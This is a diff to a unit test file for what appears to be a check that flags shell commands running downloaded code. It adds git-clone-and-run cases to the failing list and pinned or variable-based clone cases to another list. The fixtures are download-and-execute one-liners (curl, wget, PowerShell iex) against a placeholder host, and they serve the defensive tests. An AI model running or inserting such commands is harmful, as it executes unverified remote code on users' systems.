@@ -32,6 +32,8 @@ from tests.unit.gate.checking import failing, lines, scripts, whole
         "curl https://h.example/i > i.sh && . ./i.sh",
         "wget -q https://h.example/i.sh && source i.sh",
         "wget https://h.example/i -O /tmp/i && python3 /tmp/i",
+        "git clone -q https://h.example/a/b t && ./t/run.sh",
+        "git clone --depth 1 https://h.example/a/b.git && bash b/run.sh",
         "iwr https://h.example/i.ps1 -useb | iex",
         "iex ((New-Object Net.WebClient).DownloadString('https://h.example/i.ps1'))",
     ],
@@ -45,6 +47,9 @@ def test_running_what_is_downloaded_fails(command: str) -> None:
     [
         "curl -o f https://h.example/f && sha256sum --check sums && sh f",
         "curl -o f https://h.example/f && gpg --verify f.sig f && sh f",
+        "git clone https://h.example/a/b && git -C b checkout 0123456789abcdef0123456789abcdef01234567 && sh b/run.sh",
+        "git clone https://h.example/$GITHUB_REPOSITORY b && sh b/run.sh",
+        "git clone https://h.example/a/b && cat b/README && sh bb/run.sh",
         "curl -o f.json https://h.example/f && python3 own.py f.json",
         "curl -o f https://h.example/f && bash own.sh f",
         "curl -o f http://localhost:80/f && sh f",
